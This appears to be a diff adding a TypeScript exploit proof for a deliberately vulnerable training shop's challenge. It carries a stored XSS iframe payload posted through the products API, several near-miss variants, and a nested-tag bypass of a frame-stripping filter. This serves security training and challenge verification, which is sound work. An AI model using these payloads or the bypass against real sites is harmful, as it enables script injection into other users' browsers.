@@ -1,0 +1,33 @@
+import { type Attacker, prove } from '@fruit/challenge-kit/proof'
+import { challenge } from './challenge.ts'
+
+const PAYLOAD = '<iframe src="javascript:alert(`xss`)">'
+
+/** Customers can do it; the shop has no screen for it. */
+async function addProduct(attacker: Attacker, product: object): Promise<unknown> {
+  await attacker.becomeCustomer()
+  return attacker.post('/api/Products', { name: 'Windfall Punch', price: 3.5, ...product })
+}
+
+export const proof = prove(challenge, {
+  exploit: (attacker) => addProduct(attacker, { description: PAYLOAD }),
+  nearMisses: {
+    'an ordinary description': (attacker) =>
+      addProduct(attacker, { description: 'Plain. <a href="https://regret.example">More...</a>' }),
+    'the payload already escaped': (attacker) =>
+      addProduct(attacker, { description: '&lt;iframe src="javascript:alert(`xss`)"&gt;' }),
+    'the payload without its brackets': (attacker) =>
+      addProduct(attacker, { description: 'iframe src="javascript:alert(`xss`)"' }),
+    'the payload as the name, which is shown as text': (attacker) => addProduct(attacker, { name: PAYLOAD }),
+    'a product that is refused, since nothing is stored': (attacker) =>
+      addProduct(attacker, { description: PAYLOAD, price: 'a song' }),
+    'the payload sent by somebody who is not signed in': (attacker) =>
+      attacker.post('/api/Products', { name: 'Windfall Punch', price: 3.5, description: PAYLOAD }),
+    'a change of a product that is not there': (attacker) =>
+      attacker.put('/api/Products/999999', { description: PAYLOAD }),
+  },
+  bypasses: {
+    'remove-frames': (attacker) =>
+      addProduct(attacker, { description: '<<iframe>iframe src="javascript:alert(`xss`)">' }),
+  },
+})
